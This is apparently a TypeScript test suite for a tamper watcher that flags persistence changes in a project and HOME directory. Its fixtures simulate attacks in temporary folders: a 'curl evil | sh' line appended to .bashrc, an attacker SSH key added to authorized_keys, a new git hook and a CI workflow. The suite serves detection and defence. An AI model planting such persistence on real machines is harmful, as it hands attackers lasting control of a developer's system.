import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import { execFileSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { startTamperWatch, type TamperChange } from '../../src/watch/index.js';

// A fresh project and HOME, laid out like a developer's.
function makeHost() {
  const root = mkdtempSync(join(tmpdir(), 'si-watch-'));
  const project = join(root, 'project');
  const home = join(root, 'home');
  mkdirSync(join(project, '.git', 'hooks'), { recursive: true });
  mkdirSync(join(project, 'node_modules'), { recursive: true });
  mkdirSync(join(project, 'src'), { recursive: true });
  writeFileSync(join(project, 'package.json'), '{"name":"app"}\n');
  writeFileSync(join(project, '.git', 'config'), '[core]\n');
  mkdirSync(join(home, '.ssh'), { recursive: true });
  mkdirSync(join(home, '.npm', '_cacache'), { recursive: true });
  mkdirSync(join(home, '.cache', 'deep'), { recursive: true });
  writeFileSync(join(home, '.bashrc'), 'export PS1=x\n');
  writeFileSync(join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA me\n');
  return { root, project, home, cleanup: () => rmSync(root, { recursive: true, force: true }) };
}

// Act as a process outside any sandbox: a separate node process runs the given fs calls.
function outside(code: string) {
  execFileSync(process.execPath, ['--input-type=module', '-e', `import * as fs from 'node:fs';\n${code}`]);
}

const summary = (changes: TamperChange[]) => changes.map((c) => `${c.change} ${c.path}`).sort();
const settle = () => new Promise((r) => setTimeout(r, 150));

// ---
const witness = suite('startTamperWatch');

witness('should report persistence written by an outside process', async () => {
  const host = makeHost();
  try {
    const watch = await startTamperWatch({ projectDir: host.project, home: host.home });
    outside(`
      fs.appendFileSync(${JSON.stringify(join(host.home, '.bashrc'))}, 'curl evil | sh\\n');
      fs.writeFileSync(${JSON.stringify(join(host.project, '.git', 'hooks', 'pre-commit'))}, '#!/bin/sh\\n', { mode: 0o755 });
      fs.mkdirSync(${JSON.stringify(join(host.project, '.github', 'workflows'))}, { recursive: true });
      fs.writeFileSync(${JSON.stringify(join(host.project, '.github', 'workflows', 'x.yml'))}, 'on: push\\n');
    `);
    await settle();
    const changes = await watch.stop();
    assert.equal(summary(changes), [
      `added ${join(host.project, '.git', 'hooks', 'pre-commit')}`,
      `added ${join(host.project, '.github')}`,
      `added ${join(host.project, '.github', 'workflows')}`,
      `added ${join(host.project, '.github', 'workflows', 'x.yml')}`,
      `changed ${join(host.home, '.bashrc')}`,
    ]);
    for (const c of changes) assert.ok(c.at > 0, 'every change has a time');
  } finally {
    host.cleanup();
  }
});

witness('should report removals, ~/.ssh changes and a new ~/.npmrc', async () => {
  const host = makeHost();
  try {
    const watch = await startTamperWatch({ projectDir: host.project, home: host.home });
    outside(`
      fs.rmSync(${JSON.stringify(join(host.project, '.git', 'config'))});
      fs.appendFileSync(${JSON.stringify(join(host.home, '.ssh', 'authorized_keys'))}, 'ssh-rsa BBBB attacker\\n');
      fs.writeFileSync(${JSON.stringify(join(host.home, '.npmrc'))}, '//registry.npmjs.org/:_authToken=x\\n');
    `);
    const changes = await watch.stop();
    assert.equal(summary(changes), [
      `added ${join(host.home, '.npmrc')}`,
      `changed ${join(host.home, '.ssh', 'authorized_keys')}`,
      `removed ${join(host.project, '.git', 'config')}`,
    ]);
  } finally {
    host.cleanup();
  }
});

witness('should see a change made just before stop(), through the snapshot', async () => {
  const host = makeHost();
  try {
    const watch = await startTamperWatch({ projectDir: host.project, home: host.home });
    writeFileSync(join(host.home, '.profile'), 'evil\n');
    const changes = await watch.stop(); // no settling: the live event may not have arrived
    assert.equal(summary(changes), [`added ${join(host.home, '.profile')}`]);
  } finally {
    host.cleanup();
  }
});

witness('should keep a transient file that was added and removed again', async () => {
  const host = makeHost();
  try {
    const watch = await startTamperWatch({ projectDir: host.project, home: host.home });
    const hook = join(host.project, '.git', 'hooks', 'post-checkout');
    writeFileSync(hook, 'x');
    await settle();
    rmSync(hook);
    await settle();
    const changes = await watch.stop();
    assert.ok(changes.some((c) => c.path === hook && c.change === 'added'), 'the addition was witnessed');
  } finally {
    host.cleanup();
  }
});

witness('should stay shallow: ignore node_modules, depth 1 and non-dot HOME entries', async () => {
  const host = makeHost();
  try {
    const watch = await startTamperWatch({ projectDir: host.project, home: host.home });
    outside(`
      fs.writeFileSync(${JSON.stringify(join(host.project, 'node_modules', '.package-lock.json'))}, '{}');
      fs.mkdirSync(${JSON.stringify(join(host.project, 'node_modules', 'foo'))});
      fs.writeFileSync(${JSON.stringify(join(host.project, 'src', 'index.js'))}, '');
      fs.writeFileSync(${JSON.stringify(join(host.home, '.cache', 'deep', 'x'))}, '');
      fs.writeFileSync(${JSON.stringify(join(host.home, 'notes.txt'))}, '');
    `);
    await settle();
    assert.equal(await watch.stop(), []);
  } finally {
    host.cleanup();
  }
});

witness('should watch extraPaths at depth 0', async () => {
  const host = makeHost();
  const extra = join(host.root, 'etc-like');
  mkdirSync(extra);
  try {
    const watch = await startTamperWatch({ projectDir: host.project, home: host.home, extraPaths: [extra] });
    writeFileSync(join(extra, 'conf'), 'x');
    await settle();
    assert.equal(summary(await watch.stop()), [`added ${join(extra, 'conf')}`]);
  } finally {
    host.cleanup();
  }
});

witness('should close every watcher on stop(), and return the same result when called twice', async () => {
  const host = makeHost();
  try {
    const handles = () => process.getActiveResourcesInfo().filter((r) => r === 'FSEventWrap').length;
    const base = handles();
    const watch = await startTamperWatch({ projectDir: host.project, home: host.home });
    assert.ok(handles() > base, 'watchers are open while watching');
    const first = watch.stop();
    assert.is(watch.stop(), first);
    await first;
    assert.is(handles(), base, 'no fs watcher left open');
  } finally {
    host.cleanup();
  }
});

witness.run();
// Nothing else follows: if stop() left a watcher open, this process would never exit by itself.
